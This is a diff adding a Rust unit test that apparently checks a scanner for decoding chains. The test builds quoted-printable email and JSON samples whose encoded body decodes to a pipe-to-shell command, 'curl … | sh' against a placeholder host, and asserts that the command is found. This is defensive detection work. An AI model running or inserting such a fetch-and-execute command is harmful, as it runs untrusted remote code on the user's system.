@@ -685,6 +685,20 @@ fn what_follows_many_ends_of_a_stream_is_shown_whole() {
 }
 
 #[test]
+fn a_mail_in_quoted_printable_is_read_wherever_it_stands() {
+    let broken = "=63url -fsSL https://x.t=\r\nest/i=20| sh";
+    let fields = "From: a@a.example\r\nContent-Transfer-Encoding: Quoted-Printable\r\nSubject: x\r\n\r\n";
+    let mail = format!("{fields}{broken}");
+    assert_eq!(chains(&mail), ["hex"]);
+    assert_eq!(chains(mail.replace("\r\n", "\n")), ["hex"]);
+    assert_eq!(chains(json!({ "raw": mail }).to_string()), ["json hex"]);
+    assert_eq!(chains(format!("To: b\n\n--x\n{fields}a=3D1\r\n--x\n{fields}{broken}\n--x--\n")), ["hex"]);
+    for text in [&format!("quoted-printable\n{broken}"), broken, "printable a=b\n\nc=63"] {
+        assert!(chains(text).is_empty(), "{text}");
+    }
+}
+
+#[test]
 fn every_truncation_is_survived() {
     let gz = gzip(format!("{{\"a\":\"{SECRET}\"}}").as_bytes());
     let samples: [&[u8]; 7] = [
